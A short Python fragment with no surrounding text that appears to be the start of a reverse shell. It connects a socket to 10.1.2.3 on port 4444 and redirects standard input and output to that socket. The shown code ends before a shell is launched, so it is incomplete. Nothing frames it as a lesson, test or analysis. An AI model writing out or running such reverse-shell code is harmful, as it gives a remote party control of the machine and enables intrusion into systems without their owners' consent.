import socket, os
s = socket.socket()
s.connect(("10.1.2.3", 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
